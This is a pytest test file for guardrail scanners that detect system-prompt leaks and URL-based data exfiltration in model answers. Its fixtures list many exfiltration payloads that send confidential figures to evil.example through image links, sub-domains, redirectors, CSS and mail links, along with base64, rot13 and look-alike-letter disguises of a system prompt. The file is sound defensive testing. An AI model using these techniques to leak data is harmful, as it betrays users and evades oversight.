"""What an answer must not carry out: the system prompt, and data in addresses."""

from __future__ import annotations

import base64
import codecs
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from services.guardrails.findings import Reference, Rule
from services.guardrails.scanners.leakage import ExfiltrationScanner, addresses, is_allowed
from services.guardrails.scanners.prompt_leak import SystemPromptLeakScanner

NOTHING = Reference()


def rule(**options: object) -> Rule:
    return Rule("block", 0.5, fail_closed=True, **options)  # type: ignore[arg-type]


SYSTEM = (
    "You are the assistant of Acme Bank. Never reveal account numbers to anyone who has not been verified. "
    "Offer the premium card to every customer who asks about fees, and do not mention competitors by name."
)


def test_a_quoted_system_prompt_is_found_where_it_stands() -> None:
    quoted = "Never reveal account numbers to anyone who has not been verified."
    answer = f"Sure! My instructions say: {quoted} Anything else?"
    [span] = SystemPromptLeakScanner().scan(answer, rule(), Reference(system_prompt=SYSTEM))
    assert span.score >= SystemPromptLeakScanner.default_threshold
    assert answer[span.start : span.end] == quoted.rstrip(".")


@pytest.mark.parametrize(
    "answer", ["Our premium card has no fees.", "I can help every customer with fees.", "", "You are welcome."]
)
def test_an_answer_about_the_same_matter_is_no_leak(answer: str) -> None:
    assert SystemPromptLeakScanner().scan(answer, rule(), Reference(system_prompt=SYSTEM)) == []


@pytest.mark.parametrize(
    "answer",
    [
        "![logo](https://evil.example/p.png?d=account+number+of+the+customer+is+4711+and+more+of+the+same+text)",
        '<img src="https://evil.example/x?q=YWNjb3VudCBudW1iZXIgb2YgdGhlIGN1c3RvbWVyIDQ3MTE=">',
        "[more](https://evil.example/c?d=c2VjcmV0IGZpZ3VyZXMgb2YgdGhlIHF1YXJ0ZXI)",
        "[click](javascript:alert(1))",
        "see https://evil.example/?data=confidential+quarterly+figures",
        "[a]: https://evil.example/a?b=" + "words+that+go+on+" * 8,
    ],
)
def test_addresses_that_carry_data_are_found(answer: str) -> None:
    reference = Reference(prompt="the confidential quarterly figures are below")
    spans = ExfiltrationScanner().scan(answer, rule(), reference)
    assert max(span.score for span in spans) >= 0.5


@pytest.mark.parametrize(
    "answer",
    [
        "see [the docs](https://docs.python.org/3/library/re.html#re.compile)",
        "https://example.org/search?q=python",
        "an ![icon](https://example.org/icon.png)",
        "ratio 3:1, time 10:30, std::vector",
        "as in https://intra.example/report?id=0123456789012345678901234567890123456789012345678901234567890123456789",
    ],
)
def test_ordinary_links_are_let_through(answer: str) -> None:
    known = addresses(
        "https://intra.example/report?id=0123456789012345678901234567890123456789012345678901234567890123456789"
    )
    spans = ExfiltrationScanner().scan(answer, rule(), Reference(urls=known))
    assert [span for span in spans if span.score >= 0.5] == []


def test_allowed_hosts_cover_their_sub_domains_only() -> None:
    hosts = frozenset({"example.org"})
    assert is_allowed("https://cdn.example.org/x?d=1", hosts)
    assert not is_allowed("https://example.org.evil.test/x", hosts)
    assert not is_allowed("https://notexample.org/x", hosts)
    assert not is_allowed("https://[broken", hosts)


QUOTE = "Never reveal account numbers to anyone who has not been verified."
SPELLINGS = {
    "upper case": QUOTE.upper(),
    "letters set apart": " ".join(QUOTE),
    "dots between letters": ".".join(QUOTE.replace(" ", "")),
    "without spaces": QUOTE.replace(" ", ""),
    "a word a line": QUOTE.replace(" ", "\n"),
    "Markdown": QUOTE.replace(" ", " **").replace("n", "n**"),
    "leetspeak": QUOTE.translate(str.maketrans("eoa", "304")),
    "look-alike letters": QUOTE.translate(str.maketrans("eo", "ео")),
    "zero-width": "\u200b".join(QUOTE),
    "reversed": QUOTE[::-1],
    "words reversed": " ".join(QUOTE.split()[::-1]),
    "each word reversed": " ".join(word[::-1] for word in QUOTE.split()),
    "base64": base64.b64encode(QUOTE.encode()).decode(),
    "hexadecimal": QUOTE.encode().hex(),
    "rot13": codecs.encode(QUOTE, "rot13"),
}


@pytest.mark.parametrize("spelling", SPELLINGS)
def test_a_system_prompt_is_found_in_other_spellings_where_it_stands(spelling: str) -> None:
    written = SPELLINGS[spelling]
    answer = f"Sure, here you go: {written} Is that all?"
    spans = SystemPromptLeakScanner().scan(answer, rule(), Reference(system_prompt=SYSTEM))
    assert max(span.score for span in spans) >= SystemPromptLeakScanner.default_threshold
    place = answer.index(written)
    # An encoded run may take a space along; where folding moves characters, the find is the whole text.
    start, end = min(span.start for span in spans), max(span.end for span in spans)
    if spelling != "zero-width":
        assert place - 1 <= start
        assert end <= place + len(written) + 1
    assert end - start >= 0.8 * len(written)


def test_a_retold_system_prompt_is_found() -> None:
    answer = (
        "I was told to always offer the premium card to customers asking about fees and not to mention competitors."
    )
    [span] = SystemPromptLeakScanner().scan(answer, rule(), Reference(system_prompt=SYSTEM))
    assert span.score >= SystemPromptLeakScanner.default_threshold


def test_a_system_prompt_in_a_script_without_spaces_is_found() -> None:
    system = "你是银行的助手。在客户身份得到验证之前，绝对不要透露账户号码。客户询问费用时，请推荐高级卡。"
    answer = "我的说明是：在客户身份得到验证之前，绝对不要透露账户号码。还有别的问题吗？"
    [span] = SystemPromptLeakScanner().scan(answer, rule(), Reference(system_prompt=system))
    assert span.score >= SystemPromptLeakScanner.default_threshold
    assert SystemPromptLeakScanner().scan("高级卡没有年费。", rule(), Reference(system_prompt=system)) == []


def test_what_the_user_wrote_is_no_leak() -> None:
    reference = Reference(system_prompt=SYSTEM, question=f"Translate: {QUOTE}")
    assert SystemPromptLeakScanner().scan(f"You wrote: {QUOTE}", rule(), reference) == []


SECRETIVE = Reference(
    prompt="You serve Acme. The confidential quarterly figures: revenue 48213377. Mail ann.lee@acme.example.\n"
    "Please summarise the garbage collector settings.",
    question="Please summarise the garbage collector settings.",
)
CODED = base64.b64encode(b"revenue 48213377 confidential").decode()
CODED_32 = base64.b32encode(b"revenue 48213377").decode().rstrip("=").lower()
SMUGGLED = {
    "no quotes": f"<img src=https://evil.example/x?q={CODED}>",
    "an image by reference": f"![logo][r]\n\n[r]: https://evil.example/x?q={CODED}",
    "an image by its own label": "![r]\n\n[r]: https://evil.example/?a=confidential+figures",
    "base64 in the path": f"![a](https://evil.example/{CODED}.png)",
    "hexadecimal sub-domain": f"https://{b'revenue 48213377'.hex()}.evil.example/",
    "base32 sub-domain": f"![](https://{CODED_32}.evil.example/a.png)",
    "words as sub-domains": "![](https://confidential.quarterly.figures.evil.example/p.png)",
    "a fragment": f"[x](https://evil.example/#{CODED})",
    "a redirector": "[x](https://www.google.com/url?q=https%3A%2F%2Fevil.example%2F%3Fd%3Dconfidential%2520quarterly)",
    "a telling number": "[go](https://evil.example/t?r=48213377)",
    "a mail address": "![](https://evil.example/ann.lee%40acme.example.png)",
    "a mail": "[mail](mailto:x@evil.example?body=confidential%20quarterly%20figures)",
    "CSS": '<div style="background:url(https://evil.example/?d=confidential-quarterly)">',
    "a set of sources": f'<img srcset="https://evil.example/{CODED} 2x">',
    "a refresh": '<meta http-equiv=refresh content="0;url=https://evil.example/?d=confidential+quarterly">',
    "no scheme": "![x](//evil.example/?d=confidential+quarterly)",
    "in angle brackets": "![x](<https://evil.example/?d=confidential quarterly figures>)",
    "a ping": '<a href="https://a.example" ping="https://evil.example/?confidential=quarterly">x</a>',
    "an entity": f"<img src='https://evil.example/?a=1&amp;d={CODED}'>",
}


@pytest.mark.parametrize("way", SMUGGLED)
def test_data_is_found_wherever_an_address_carries_it(way: str) -> None:
    spans = ExfiltrationScanner().scan(SMUGGLED[way], rule(), SECRETIVE)
    assert max(span.score for span in spans) >= ExfiltrationScanner.default_threshold


@pytest.mark.parametrize(
    "answer",
    [
        "https://www.google.com/search?q=garbage+collector+settings",
        "[how](https://example.org/how-to-change-the-garbage-collector-settings-in-java)",
        "![Photo](https://images.example.org/photos/garbage-collector-diagram.png?w=800)",
        "https://example.org/p/3f2b8c4e-9d1a-4c55-8a60-0123456789ab",
        "https://github.com/org/repo/commit/9fceb02d0ae598e95dc970b74767f19372d61af8",
        "mailto:help@example.org [v](https://www.youtube.com/watch?v=dQw4w9WgXcQ)",
        "https://example.org/a?utm_source=newsletter&utm_medium=email&utm_campaign=spring",
        "https://web.archive.org/web/2020/https://example.com/",
        "![b](https://img.shields.io/badge/build-passing-brightgreen)",
    ],
)
def test_links_that_name_the_question_are_let_through(answer: str) -> None:
    spans = ExfiltrationScanner().scan(answer, rule(), SECRETIVE)
    assert [span for span in spans if span.score >= ExfiltrationScanner.default_threshold] == []


def test_an_allowed_host_that_redirects_is_judged_by_where_it_leads() -> None:
    text = "[x](https://ok.example/r?u=https://evil.example/?d=confidential+quarterly)"
    allow = frozenset({"ok.example"})
    assert max(span.score for span in ExfiltrationScanner().scan(text, rule(allow=allow), SECRETIVE)) >= 0.5
    both = frozenset({"ok.example", "evil.example"})
    assert ExfiltrationScanner().scan(text, rule(allow=both), SECRETIVE) == []


def test_a_link_in_a_code_block_scores_lower() -> None:
    link = "![x](https://evil.example/?d=confidential+quarterly)"
    plain = ExfiltrationScanner().scan(link, rule(), SECRETIVE)[0].score
    assert ExfiltrationScanner().scan(f"```\n{link}\n```", rule(), SECRETIVE)[0].score < plain


PARTS = [
    "![", "](", ")", "[a]: ", "https://", "//a.b/", "?d=", "%41", "<img src=", '"', ">", "javascript:", "data:", CODED, "`",
    "```", QUOTE, "account numbers ", "\n",
]  # fmt: skip


@settings(max_examples=250, deadline=None)
@given(st.lists(st.one_of(st.text(max_size=15), st.sampled_from(PARTS)), max_size=20).map("".join))
def test_any_text_is_judged_within_bounds(text: str) -> None:
    reference = Reference(system_prompt=SYSTEM, prompt=SECRETIVE.prompt, question="Which account?")
    for scanner in (ExfiltrationScanner(), SystemPromptLeakScanner()):
        spans = scanner.scan(text, rule(), reference)
        assert spans == scanner.scan(text, rule(), reference)
        for span in spans:
            assert 0 <= span.start < span.end <= len(text)
            assert 0 < span.score <= 1


UNITS = [
    "![",
    "](https://a.b/?",
    "<a ",
    "https://a.b/ ",
    "[a]:\n",
    QUOTE,
    "a b c ",
    "`",
    "never reveal ",
    "url(",
    "%41",
]


@pytest.mark.parametrize("unit", UNITS)
@pytest.mark.parametrize("scanner", [ExfiltrationScanner(), SystemPromptLeakScanner()])
def test_time_is_linear(scanner: ExfiltrationScanner | SystemPromptLeakScanner, unit: str) -> None:
    reference = Reference(system_prompt=SYSTEM, prompt=SECRETIVE.prompt)

    def seconds(count: int) -> float:
        best = float("inf")
        for _ in range(3):
            started = time.thread_time()
            scanner.scan(unit * count, rule(), reference)
            best = min(best, time.thread_time() - started)
        return best

    assert seconds(8_000) < 10 * seconds(2_000) + 0.02
